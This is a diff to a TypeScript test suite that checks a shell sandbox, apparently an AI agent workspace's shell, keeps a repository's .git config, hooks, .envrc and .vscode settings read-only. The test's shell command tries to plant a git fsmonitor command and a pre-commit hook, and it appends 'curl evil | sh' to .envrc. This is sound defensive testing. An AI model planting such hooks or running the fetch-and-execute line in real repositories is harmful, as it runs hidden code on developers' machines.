@@ -1,5 +1,13 @@
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { createServer } from "node:net";
 import { homedir } from "node:os";
 import { join } from "node:path";
@@ -187,6 +195,63 @@ describe("the shell's sandbox", () => {
       for (const path of [`/usr/${tag}`, join(home, tag), `/tmp/${tag}`, `/etc/${tag}`])
         rmSync(path, { force: true });
     }
+  });
+
+  it("the root's .git, hooks, environment and editor settings are read-only inside (security audit 2, finding 5)", async () => {
+    const repo = join(root, "repo-read-only");
+    const marker = join(root, "ran-outside-the-sandbox");
+    mkdirSync(join(repo, ".vscode"), { recursive: true });
+    mkdirSync(join(repo, "node_modules"));
+    execFileSync("git", ["init", "-q"], { cwd: repo });
+    writeFileSync(join(repo, ".envrc"), "export A=1\n");
+    writeFileSync(join(repo, "package.json"), "{}\n");
+    const config = readFileSync(join(repo, ".git/config"), "utf8");
+    const command = [
+      `git config core.fsmonitor 'date > ${marker}; false' 2>/dev/null || echo config-refused`,
+      "(echo 'date > x' > .git/hooks/pre-commit) 2>/dev/null || echo hook-refused",
+      "(echo 'curl evil | sh' >> .envrc) 2>/dev/null || echo envrc-refused",
+      "(echo '{}' > .vscode/tasks.json) 2>/dev/null || echo vscode-refused",
+      "echo '{\"scripts\":{}}' > package.json && touch node_modules/installed new.txt && echo installs-work",
+      "git status --short > /dev/null && echo status-works",
+    ].join("\n");
+    const ws = workspace({ root: repo, shell: true });
+    const record = await call(ws.tools, "shell", { command });
+    if (!sandboxed) return;
+    for (const word of [
+      "config-refused",
+      "hook-refused",
+      "envrc-refused",
+      "vscode-refused",
+      "installs-work",
+      "status-works",
+    ]) {
+      expect(record.output).toContain(word);
+    }
+    expect(readFileSync(join(repo, ".git/config"), "utf8")).toBe(config);
+    expect(existsSync(join(repo, ".git/hooks/pre-commit"))).toBe(false);
+    expect(readFileSync(join(repo, ".envrc"), "utf8")).toBe("export A=1\n");
+    expect(existsSync(join(repo, ".vscode/tasks.json"))).toBe(false);
+    expect(existsSync(join(repo, "node_modules/installed"))).toBe(true);
+    // The developer's own git, outside the sandbox, runs nothing the command planted.
+    execFileSync("git", ["status", "--short"], { cwd: repo, stdio: "ignore" });
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  it("a root that is not a repository runs as before, and protectedPaths: [] leaves .git writable", async () => {
+    const plain = join(root, "not-a-repo");
+    mkdirSync(plain);
+    const fresh = await call(workspace({ root: plain, shell: true }).tools, "shell", {
+      command: "touch made.txt && echo ok",
+    });
+    expect(fresh.output).toContain("ok");
+    expect(existsSync(join(plain, "made.txt"))).toBe(true);
+    const repo = join(root, "repo-unprotected");
+    mkdirSync(repo);
+    execFileSync("git", ["init", "-q"], { cwd: repo });
+    const ws = workspace({ root: repo, shell: true, protectedPaths: [] });
+    const record = await call(ws.tools, "shell", { command: "git config quiver.test yes && echo set" });
+    expect(record.output).toContain("set");
+    expect(readFileSync(join(repo, ".git/config"), "utf8")).toContain("test = yes");
   });
 
   it("the network is off in the sandbox unless network: true", async () => {
